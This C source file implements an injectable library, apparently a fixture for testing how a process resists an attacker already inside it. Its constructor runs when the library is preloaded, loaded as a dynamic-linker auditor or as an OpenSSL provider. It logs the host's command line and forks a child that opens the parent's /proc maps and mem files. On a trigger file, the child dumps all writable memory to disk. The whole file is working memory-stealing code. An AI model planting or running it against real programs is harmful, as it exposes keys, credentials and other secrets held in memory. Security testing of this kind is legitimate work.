/*
 * What an attacker gets into a process: a library whose constructor notes where it ran, and whose child copies the
 * process's memory to LOOT when LOOT/go is there. Preloaded, an auditor (rtld-audit(7)), or an OpenSSL provider.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>

unsigned la_version(unsigned version) { return version; }

static int write_all(int to, const char *bytes, ssize_t length) {
  while (length > 0) {
    ssize_t count = write(to, bytes, (size_t)length);
    if (count <= 0) return -1;
    bytes += count;
    length -= count;
  }
  return 0;
}

static void copy_memory(FILE *maps, int memory, pid_t pid) {
  char path[512], line[512];
  static char piece[1 << 20];
  snprintf(path, sizeof path, LOOT "/dump-%d", pid);
  int dump = open(path, O_WRONLY | O_CREAT, 0600);
  while (maps && memory >= 0 && dump >= 0 && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char readable, writable;
    if (sscanf(line, "%lx-%lx %c%c", &from, &to, &readable, &writable) != 4) continue;
    if (readable != 'r' || writable != 'w') continue;
    for (; from < to; from += sizeof piece) {
      unsigned long left = to - from;
      ssize_t count = pread(memory, piece, left < sizeof piece ? left : sizeof piece, (off_t)from);
      if (count <= 0) break;
      if (write_all(dump, piece, count)) return;
    }
  }
}

__attribute__((constructor)) static void planted(void) {
  char path[512], command[4096] = {0};
  int self = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
  ssize_t length = self < 0 ? 0 : read(self, command, sizeof command - 1);
  close(self);
  snprintf(path, sizeof path, LOOT "/ran-%d", getpid());
  int note = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (note < 0) return;
  if (length > 0 && write(note, command, (size_t)length) < 0) return;
  close(note);
  pid_t victim = getpid();
  if (fork() != 0) return;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  /* It may have ended before. */
  if (getppid() != victim) _exit(1);
  for (int descriptor = 0; descriptor < 256; descriptor++) close(descriptor);
  /* Now, and not later: the process may close the door. */
  snprintf(path, sizeof path, "/proc/%d/maps", victim);
  FILE *maps = fopen(path, "r");
  snprintf(path, sizeof path, "/proc/%d/mem", victim);
  int memory = open(path, O_RDONLY);
  while (access(LOOT "/go", F_OK) != 0) usleep(20000);
  copy_memory(maps, memory, victim);
  close(open(LOOT "/done", O_WRONLY | O_CREAT, 0600));
  _exit(0);
}
